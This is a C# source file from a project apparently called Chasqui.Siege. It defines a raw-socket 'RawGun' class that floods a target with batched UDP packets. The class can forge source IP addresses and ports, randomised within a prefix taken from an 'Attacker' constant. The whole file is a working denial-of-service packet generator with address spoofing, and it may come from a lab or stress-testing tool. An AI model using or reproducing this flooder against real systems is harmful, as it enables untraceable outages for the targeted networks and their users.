using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Runtime.InteropServices;
using Chasqui.Siege.Interop;

namespace Chasqui.Siege.Flood;

/// <summary>Sends IPv4 packets of its own making, 64 in one system call, from whatever source.</summary>
/// <remarks>UDP checksums are left out, as IPv4 allows; those of IPv4 and the identification are the kernel's to fill in.</remarks>
internal sealed unsafe class RawGun : IGun
{
    private const int Batch = 64;
    private const int HeaderLength = 28; // IPv4 and UDP
    private const int AddressLength = 16; // sockaddr_in
    private const int MostPacket = 1500;
    private const int FirstPort = 1024;

    private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
    private readonly IReadOnlyList<byte[]> _datagrams;
    private readonly bool _isSpoofed;
    private readonly Random _random = new(1);
    private readonly byte[] _packets = GC.AllocateArray<byte>(Batch * MostPacket, pinned: true);
    private readonly byte[] _target = GC.AllocateArray<byte>(AddressLength, pinned: true);
    private readonly Libc.iovec[] _vectors = GC.AllocateArray<Libc.iovec>(Batch, pinned: true);
    private readonly Libc.mmsghdr[] _headers = GC.AllocateArray<Libc.mmsghdr>(Batch, pinned: true);
    private int _next;

    /// <summary>Reads the datagrams and makes the packets' headers.</summary>
    public RawGun(FloodWork work)
    {
        _datagrams = DatagramFile.Read(work.Datagrams);
        _isSpoofed = work.Source is null;
        _socket.SendBufferSize = 4 << 20;
        SocketAddress target = work.Target.Serialize();
        target.Buffer.Span[..AddressLength].CopyTo(_target);
        for (int i = 0; i < Batch; i++) Build(i, work.Target, work.Source ?? new IPEndPoint(Attacker.FirstSpoofed, FirstPort));
    }

    /// <inheritdoc/>
    public int Send(int count, int port)
    {
        int sent = 0;
        while (sent < count)
        {
            int batch = Math.Min(Batch, count - sent);
            for (int i = 0; i < batch; i++) Fill(i, (ushort)port);

            // SAFETY: the headers and all that they point to are pinned from birth, and this object keeps them alive.
            int done = Libc.sendmmsg(_socket.SafeHandle, (Libc.mmsghdr*)Marshal.UnsafeAddrOfPinnedArrayElement(_headers, 0), (uint)batch, 0);
            if (done <= 0) break; // a full queue: what is not sent in time is left out
            sent += done;
        }

        return sent;
    }

    /// <inheritdoc/>
    public void Dispose() => _socket.Dispose();

    private void Build(int index, IPEndPoint target, IPEndPoint source)
    {
        Span<byte> packet = _packets.AsSpan(index * MostPacket, MostPacket);
        packet[0] = 0x45;
        packet[8] = 64; // hops
        packet[9] = (byte)ProtocolType.Udp;
        source.Address.TryWriteBytes(packet[12..], out _);
        target.Address.TryWriteBytes(packet[16..], out _);
        BinaryPrimitives.WriteUInt16BigEndian(packet[20..], (ushort)source.Port);

        // SAFETY: pinned, see Send.
        _vectors[index].iov_base = (void*)Marshal.UnsafeAddrOfPinnedArrayElement(_packets, index * MostPacket);
        _headers[index].msg_hdr = new Libc.msghdr
        {
            msg_name = (void*)Marshal.UnsafeAddrOfPinnedArrayElement(_target, 0),
            msg_namelen = AddressLength,
            msg_iov = (Libc.iovec*)Marshal.UnsafeAddrOfPinnedArrayElement(_vectors, index),
            msg_iovlen = 1,
        };
    }

    private void Fill(int index, ushort port)
    {
        byte[] datagram = _datagrams[_next];
        _next = (_next + 1) % _datagrams.Count;
        Span<byte> packet = _packets.AsSpan(index * MostPacket, MostPacket);
        int length = HeaderLength + datagram.Length;
        BinaryPrimitives.WriteUInt16BigEndian(packet[2..], (ushort)length);
        BinaryPrimitives.WriteUInt16BigEndian(packet[24..], (ushort)(length - 20));
        BinaryPrimitives.WriteUInt16BigEndian(packet[22..], port);
        if (_isSpoofed)
        {
            BinaryPrimitives.WriteUInt16BigEndian(packet[14..], (ushort)_random.Next(ushort.MaxValue)); // the host within the prefix
            BinaryPrimitives.WriteUInt16BigEndian(packet[20..], (ushort)_random.Next(FirstPort, ushort.MaxValue));
        }

        datagram.CopyTo(packet[HeaderLength..]);
        _vectors[index].iov_len = (nuint)length;
    }
}
